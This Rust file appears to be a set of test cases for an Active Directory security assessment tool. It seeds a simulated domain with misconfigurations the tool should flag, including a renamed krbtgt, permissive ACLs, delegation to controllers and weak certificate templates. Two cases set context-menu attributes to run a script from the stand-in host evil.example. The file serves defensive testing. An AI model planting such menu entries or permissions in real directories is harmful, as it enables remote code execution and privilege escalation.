//! Domains that look like the hardened one and are not: what rules is behind another name, in another place or in another form.

use portcullis::assess::probes::descriptor::{Guid, guid, mask};

use super::cases::{Case, fails, is_wrong, publish};
use super::descriptor::{AUTHENTICATED, allow, ruled, sid};
use super::directory::BASE;
use super::domain::{GATEWAYS, KEY, account, days_ago, metadata};
use super::forest::CLIENT;
use super::world::World;

/// The attribute altSecurityIdentities by its `schemaIDGUID` ([MS-ADA1]).
const ALTERNATIVE_IDENTITIES: Guid = guid(0x00fb_f30c, 0x91fe, 0x11d1, 0xaebc_0000_f803_67c1);

/// The attribute gPLink by its `schemaIDGUID` ([MS-ADA1]).
const POLICY_LINK: Guid = guid(0xf30e_3bbe, 0x9ff0, 0x11d1, 0xb603_0000_f803_67c1);

/// Somebody without privilege may do this with the object.
fn gives(world: &mut World, place: &str, mask: u32) {
    let rights = ruled(&[allow(&sid(2_001), mask)]);
    world.directory.at(place).set("nTSecurityDescriptor", rights);
}

/// A published template whose requester writes the subject, and whose requests need a signature.
fn signed(world: &mut World, name: &str, version: &str, policy: &str) {
    publish(world, name, &[CLIENT], "1");
    let template = world.directory.at(&format!("CN={name},CN=Certificate Templates"));
    template.set("msPKI-RA-Signature", "1");
    template.set("msPKI-RA-Application-Policies", policy);
    template.set("msPKI-Template-Schema-Version", version);
}

/// Names and places.
pub const NAMES: &[Case] = &[
    // the account that signs tickets goes by its RID
    is_wrong("krbtgt-password-age", "3650d", |world| {
        let real = world.directory.at("CN=krbtgt");
        real.set("sAMAccountName", "krbtgt-old");
        real.set("userPrincipalName", "krbtgt-old@scripted.test");
        real.set("pwdLastSet", days_ago(3_650));
        real.hide(&["adminCount"]);
        let decoy = account("CN=krbtgt2,CN=Users", 2_900, 0x202).with("sAMAccountName", "krbtgt");
        world.directory.put(decoy.with("replPropertyMetaData", metadata(KEY, 1)));
    }),
    fails("delegation-users-not-to-controllers", "svc-web", |world| {
        world
            .directory
            .at("CN=DC1,OU=Domain Controllers")
            .set("servicePrincipalName", "http/Rota.scripted.test");
        world.directory.at("CN=svc-web").set("msDS-AllowedToDelegateTo", "http/rota.scripted.test:8080");
    }),
    fails("directory-menus-local", "user-Display", |world| {
        world.directory.at("CN=user-Display").set("adminContextMenu", "9,&Tools,//evil.example/run.vbs");
    }),
    fails("directory-menus-local", "group-Display", |world| {
        world.directory.at("CN=group-Display").set("shellContextMenu", "9,&Tools,http:evil.example/run.vbs");
    }),
    fails("access-controller-policies", "nurse-1 on Desk", |world| {
        let link = format!("[LDAP://CN={{41C3}},CN=Policies,CN=System,{BASE};0]");
        world.directory.at("OU=Tier 0").set("gPLink", link);
    }),
    fails("password-policies-not-weaker", "Tier 0", |world| {
        world.directory.at("CN=Tier 0,CN=Password Settings Container").set("msDS-LockoutThreshold", "0");
    }),
    fails("pki-no-request-for-others", "Old", |world| signed(world, "Old", "1", "1.3.6.1.4.1.311.20.2.1"))
        .and(&["templates-no-old-form"]),
    fails("pki-no-request-for-others", "Anybody", |world| signed(world, "Anybody", "2", CLIENT)),
];

/// Rights over what is not looked at first.
pub const RIGHTS: &[Case] = &[
    fails("access-forest", "nurse-1 on Directory Service", |world| {
        gives(world, "CN=Directory Service", mask::WRITE_PROPERTY);
    }),
    fails("access-forest", "nurse-1 on Partitions", |world| {
        gives(world, "CN=Partitions", mask::CREATE_CHILD)
    }),
    fails("access-forest", "nurse-1 on NTDS Settings", |world| {
        gives(world, "CN=NTDS Settings", mask::DELETE)
    }),
    fails("access-forest", "nurse-1 on group-Display", |world| {
        gives(world, "CN=group-Display", mask::WRITE_PROPERTY);
    }),
    fails("access-everybody", "Authenticated Users on user-Display", |world| {
        let everything = ruled(&[allow(AUTHENTICATED, mask::FULL_CONTROL)]);
        world.directory.at("CN=user-Display").set("nTSecurityDescriptor", everything);
    })
    // we are one of them
    .and(&["access-forest", "our-account-cannot-write"]),
    fails("access-privileged-places", "nurse-1 on Tier 0", |world| {
        let links = ruled(&[allow(&sid(2_001), mask::WRITE_PROPERTY).about(POLICY_LINK)]);
        world.directory.at("OU=Tier 0").set("nTSecurityDescriptor", links);
    }),
    fails("access-system", "nurse-1 on Password Settings Container", |world| {
        let reads = allow(&sid(GATEWAYS), mask::READ_PROPERTY).inherited();
        let writes = allow(&sid(2_001), mask::WRITE_PROPERTY);
        world
            .directory
            .at("CN=Password Settings Container")
            .set("nTSecurityDescriptor", ruled(&[reads, writes]));
    }),
    fails("access-everybody", "Domain Computers on Staff", |world| {
        let creates = allow(&sid(515), mask::CREATE_CHILD);
        world.directory.at("OU=Staff").set("nTSecurityDescriptor", ruled(&[creates]));
    }),
    fails("access-everybody", "Domain Computers on Staff", |world| {
        let maps = allow(&sid(515), mask::WRITE_PROPERTY).about(ALTERNATIVE_IDENTITIES);
        world.directory.at("OU=Staff").set("nTSecurityDescriptor", ruled(&[maps]));
    }),
    is_wrong("our-account-cannot-write", "true", |world| {
        let creates = ruled(&[allow(&sid(GATEWAYS), mask::CREATE_CHILD)]);
        world.directory.at("CN=Sites").set("nTSecurityDescriptor", creates);
    })
    .and(&["access-forest"]),
    is_wrong("our-account-cannot-write", "true", |world| {
        let creates = ruled(&[allow(&sid(GATEWAYS), mask::CREATE_CHILD)]);
        world.directory.at("CN=Certificate Templates").set("nTSecurityDescriptor", creates);
    })
    .and(&["access-pki"]),
];
